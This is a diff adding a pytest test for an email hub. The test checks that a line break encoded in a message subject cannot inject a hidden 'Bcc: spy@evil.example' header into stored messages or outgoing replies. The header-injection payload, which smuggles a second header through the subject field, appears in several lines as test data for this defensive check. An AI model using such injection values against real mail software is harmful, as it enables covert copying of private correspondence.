@@ -205,6 +205,34 @@ async def test_smtp_refusals_are_retried_or_reported(email_hub):
     assert "550" in failed["delivery"]["error"] and failed["delivery"]["attempts"] == 1
 
 
+async def test_a_line_break_hidden_in_the_subject_neither_breaks_nor_forges_the_reply(email_hub):
+    hub = email_hub
+    agent = await hub.login("agent")
+    raw = (
+        mail(subject="placeholder")
+        .as_bytes()
+        .replace(b"Subject: placeholder", b"Subject: =?utf-8?q?Order_help=0D=0ABcc:_spy@evil.example?=")
+    )
+    ack = await (await post_email(hub, raw)).json()
+    stored = await hub.db.messages.find_one({"_id": ObjectId(ack["id"])})
+    assert stored["subject"] == "Order help Bcc: spy@evil.example"
+    # A route stored by an earlier version, line break and all, is answered on one line too.
+    await hub.db.messages.update_one(
+        {"_id": stored["_id"]}, {"$set": {"subject": "Order help\r\nBcc: spy@evil.example"}}
+    )
+    await hub.db.conversations.update_one(
+        {"_id": stored["conversation_id"]}, {"$set": {"route.subject": "Order help\r\nBcc: spy@evil.example"}}
+    )
+    _, reply = await hub.call("POST", f"/api/v1/conversations/{ack['conversation_id']}/messages", agent,
+                              json={"text": "On it."})  # fmt: skip
+    await eventually(
+        lambda: hub.db.messages.find_one({"_id": ObjectId(reply["id"]), "delivery.status": "sent"})
+    )
+    [outgoing] = hub.smtp_inbox.messages
+    assert outgoing["Subject"] == "Re: Order help Bcc: spy@evil.example"
+    assert outgoing["Bcc"] is None and outgoing["To"] == "ann@example.com"
+
+
 def _imaps(dovecot, user: str, password: str, **extra) -> dict:
     """Settings for the poller on dovecot's implicit-TLS port."""
     return {"imap_host": "127.0.0.1", "imap_port": dovecot.imaps_port, "imap_user": user,
